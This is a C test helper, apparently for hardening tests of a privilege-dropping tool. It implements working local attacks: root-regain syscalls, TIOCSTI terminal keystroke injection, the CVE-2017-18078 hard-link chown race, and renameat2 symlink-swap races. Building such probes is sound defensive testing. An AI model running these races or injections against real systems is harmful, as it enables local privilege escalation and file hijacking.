/* SPDX-License-Identifier: MIT */
/* attackprobe: what a hostile command would try after unroot, for the e2e hardening tests.
   Static, like idprobe. Test code only. Modes:
     attackprobe regain          try every way back to root; prints key=ok|ERRNAME lines
     attackprobe inject TEXT     TIOCSCTTY (steal) on fd 0, then TIOCSTI each byte of TEXT into
                                 fd 0; prints tiocsctty= and tiocsti=ok|ERRNAME
     attackprobe pty CMD [ARG..] play an interactive root shell: a new session whose controlling
                                 terminal is a fresh pty; run CMD as a job in its own process
                                 group in the foreground (what job control does), with the pty
                                 as fd 0; after it ends, print the input the "shell" would read
                                 next (pending=...) and job_exit=N
     attackprobe swaplink DIR NAME VICTIM SECONDS
                                 the CVE-2017-18078 race against a chown by name: keep a hard
                                 link to VICTIM in DIR and rename it over DIR/NAME whenever NAME
                                 is a socket, until SECONDS pass or SIGTERM; prints ready, then
                                 swaps=N at the end
     attackprobe exchange DIR SECONDS COUNT A B [A B...]
                                 swap each pair of names in DIR with renameat2(RENAME_EXCHANGE),
                                 round robin, until COUNT swaps or SECONDS have passed; prints
                                 swaps=N and exits 0 (a failed swap is counted, not fatal)
     attackprobe exchange2 SECONDS COUNT PATH_A PATH_B
                                 swap two paths, which may be in different directories (a
                                 directory moved to another parent), with renameat2
                                 RENAME_EXCHANGE until COUNT swaps or SECONDS have passed;
                                 prints swaps=N failed=N and exits 0
     attackprobe swapsym DIR NAME LINK SECONDS
                                 the symlink race against a probe by name: keep DIR/NAME a
                                 stale socket of ours and DIR/.swapsym a symlink to LINK, and
                                 exchange the two names (renameat2 RENAME_EXCHANGE) over and
                                 over, until SECONDS pass or SIGTERM; prints ready, then
                                 swaps=N at the end */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/capability.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

static const char* errname(int e) {
  switch (e) {
    case EPERM: return "EPERM";
    case EINVAL: return "EINVAL";
    case EIO: return "EIO";
    case ENOTTY: return "ENOTTY";
    case EACCES: return "EACCES";
    default: return strerror(e);
  }
}

static void report(const char* key, int rc) {
  printf("%s=%s\n", key, rc == 0 ? "ok" : errname(errno));
}

static int regain(void) {
  uid_t r, e, s;
  getresuid(&r, &e, &s);
  printf("uid=%u,%u,%u\n", r, e, s);
  report("setresuid", setresuid(0, 0, 0));
  report("setuid", setuid(0));
  report("seteuid", seteuid(0));
  report("setresgid", setresgid(0, 0, 0));
  gid_t zero = 0;
  report("setgroups", setgroups(1, &zero));
  struct __user_cap_header_struct h = {_LINUX_CAPABILITY_VERSION_3, 0};
  struct __user_cap_data_struct d[2];
  memset(d, 0xff, sizeof d);
  report("capset_all", (int)syscall(SYS_capset, &h, d));
  report("ambient_raise_setuid", prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, 7, 0, 0));
  report("clear_no_new_privs", prctl(PR_SET_NO_NEW_PRIVS, 0, 0, 0, 0)); /* one-way: EINVAL */
  printf("nnp_after=%d\n", prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0));
  getresuid(&r, &e, &s);
  printf("uid_after=%u,%u,%u\n", r, e, s);
  return 0;
}

static int inject(const char* text) {
  /* First try to make the terminal ours again (steal it, as a session leader may try);
     then push the text. */
  report("tiocsctty", ioctl(0, TIOCSCTTY, 1));
  int rc = 0;
  for (const char* p = text; *p; p++) {
    rc = ioctl(0, TIOCSTI, p);
    if (rc != 0) break;
  }
  report("tiocsti", rc);
  return 0;
}

static int pty(char** argv) {
  int master = open("/dev/ptmx", O_RDWR | O_NOCTTY | O_CLOEXEC);
  if (master < 0 || grantpt(master) != 0 || unlockpt(master) != 0) {
    perror("attackprobe: /dev/ptmx");
    return 2;
  }
  const char* name = ptsname(master);
  pid_t shell = fork();
  if (shell < 0) return 2;
  if (shell == 0) {
    /* The "root shell": session leader with the pty as controlling terminal. */
    if (setsid() < 0) _exit(3);
    int tty = open(name, O_RDWR | O_CLOEXEC);
    if (tty < 0 || ioctl(tty, TIOCSCTTY, 0) != 0) _exit(4);
    struct termios t;
    tcgetattr(tty, &t);
    cfmakeraw(&t); /* injected bytes are readable at once, and not echoed */
    tcsetattr(tty, TCSANOW, &t);
    signal(SIGTTOU, SIG_IGN);
    pid_t job = fork();
    if (job < 0) _exit(5);
    if (job == 0) {
      setpgid(0, 0); /* a job: its own process group, so unroot is a group leader */
      signal(SIGTTOU, SIG_DFL);
      if (dup2(tty, 0) != 0) _exit(6);
      execv(argv[0], argv);
      _exit(127);
    }
    setpgid(job, job);
    tcsetpgrp(tty, job);
    int status = 0;
    while (waitpid(job, &status, 0) < 0 && errno == EINTR) {
    }
    tcsetpgrp(tty, getpgrp());
    /* What the shell would read as its next command line. */
    fcntl(tty, F_SETFL, O_NONBLOCK);
    char buf[4096];
    ssize_t n = read(tty, buf, sizeof buf);
    printf("pending=%.*s\n", n > 0 ? (int)n : 0, buf);
    printf("job_exit=%d\n", WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status));
    fflush(stdout);
    _exit(0);
  }
  int status = 0;
  while (waitpid(shell, &status, 0) < 0 && errno == EINTR) {
  }
  close(master);
  return WIFEXITED(status) ? WEXITSTATUS(status) : 1;
}

static volatile sig_atomic_t swap_stop;

static void on_term(int sig) {
  (void)sig;
  swap_stop = 1;
}

static int swaplink(const char* dir, const char* name, const char* victim, int seconds) {
  char target[4096], spare[4096];
  snprintf(target, sizeof target, "%s/%s", dir, name);
  snprintf(spare, sizeof spare, "%s/.swaplink", dir);
  signal(SIGTERM, on_term);
  unlink(spare);
  if (link(victim, spare) != 0) {
    printf("link=%s\n", errname(errno));
    return 1;
  }
  printf("ready\n");
  time_t end = time(NULL) + seconds;
  unsigned long swaps = 0, spins = 0;
  while (!swap_stop) {
    if ((++spins & 0x3ff) == 0 && time(NULL) >= end) break;
    struct stat st;
    if (lstat(target, &st) != 0 || !S_ISSOCK(st.st_mode)) continue;
    if (rename(spare, target) == 0) {
      swaps++;
      if (link(victim, spare) != 0) break;
    }
  }
  printf("swaps=%lu\n", swaps);
  return 0;
}

static double now_s(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static int exchange(const char* dir, double seconds, long count, char** names, int n) {
  int dfd = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (dfd < 0 || n < 2 || n % 2 != 0) {
    perror("attackprobe: exchange");
    return 2;
  }
  double end = now_s() + seconds;
  long done = 0, failed = 0, rounds = 0;
  while (done < count) {
    for (int i = 0; i + 1 < n && done < count; i += 2, done++) {
      if (syscall(SYS_renameat2, dfd, names[i], dfd, names[i + 1], 2 /* RENAME_EXCHANGE */) != 0) {
        failed++;
      }
    }
    if (++rounds % 256 == 0 && now_s() > end) break;
  }
  printf("swaps=%ld failed=%ld\n", done, failed);
  return 0;
}

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static int exchange2(double seconds, long count, const char* a, const char* b) {
  double end = now_s() + seconds;
  long done = 0, failed = 0;
  while (done < count) {
    if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) != 0) failed++;
    if (++done % 256 == 0 && now_s() > end) break;
  }
  printf("swaps=%ld failed=%ld\n", done, failed);
  return 0;
}

/* A socket file nobody listens on at PATH (relative to the cwd). */
static void make_stale(const char* path) {
  int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  struct sockaddr_un a;
  memset(&a, 0, sizeof a);
  a.sun_family = AF_UNIX;
  snprintf(a.sun_path, sizeof a.sun_path, "%s", path);
  if (s >= 0) {
    (void)bind(s, (struct sockaddr*)&a, sizeof a);
    close(s);
  }
}

static int swapsym(const char* dir, const char* name, const char* link, int seconds) {
  const char* spare = ".swapsym";
  signal(SIGTERM, on_term);
  if (chdir(dir) != 0) {
    printf("chdir=%s\n", errname(errno));
    return 1;
  }
  unlink(spare);
  if (symlink(link, spare) != 0) {
    printf("symlink=%s\n", errname(errno));
    return 1;
  }
  printf("ready\n");
  time_t end = time(NULL) + seconds;
  unsigned long swaps = 0, spins = 0;
  while (!swap_stop) {
    if ((++spins & 0x3ff) == 0 && time(NULL) >= end) break;
    /* unroot removes or replaces whichever of the two it found at NAME: put it back, a
       symlink at one of the names and a socket at the other. */
    struct stat a, b;
    int have_a = lstat(name, &a) == 0, have_b = lstat(spare, &b) == 0;
    if (!have_a && !have_b) {
      make_stale(name);
      (void)symlink(link, spare);
      continue;
    }
    if (!have_a || !have_b) {
      const char* missing = have_a ? spare : name;
      const struct stat* other = have_a ? &a : &b;
      if (S_ISLNK(other->st_mode)) {
        make_stale(missing);
      } else {
        (void)symlink(link, missing);
      }
      continue;
    }
    if (syscall(SYS_renameat2, AT_FDCWD, spare, AT_FDCWD, name, RENAME_EXCHANGE) == 0) swaps++;
  }
  printf("swaps=%lu\n", swaps);
  return 0;
}

int main(int argc, char** argv) {
  setvbuf(stdout, NULL, _IONBF, 0);
  if (argc >= 2 && strcmp(argv[1], "regain") == 0) return regain();
  if (argc >= 3 && strcmp(argv[1], "inject") == 0) return inject(argv[2]);
  if (argc >= 3 && strcmp(argv[1], "pty") == 0) return pty(argv + 2);
  if (argc == 6 && strcmp(argv[1], "swaplink") == 0)
    return swaplink(argv[2], argv[3], argv[4], atoi(argv[5]));
  if (argc >= 7 && strcmp(argv[1], "exchange") == 0) {
    return exchange(argv[2], atof(argv[3]), atol(argv[4]), argv + 5, argc - 5);
  }
  if (argc == 6 && strcmp(argv[1], "exchange2") == 0)
    return exchange2(atof(argv[2]), atol(argv[3]), argv[4], argv[5]);
  if (argc == 6 && strcmp(argv[1], "swapsym") == 0)
    return swapsym(argv[2], argv[3], argv[4], atoi(argv[5]));
  fprintf(stderr, "usage: attackprobe regain | inject TEXT | pty CMD [ARG...] |\n"
                  "       swaplink DIR NAME VICTIM SECONDS | swapsym DIR NAME LINK SECONDS |\n"
                  "       exchange DIR SECONDS COUNT A B [A B...] |\n"
                  "       exchange2 SECONDS COUNT PATH_A PATH_B\n");
  return 2;
}
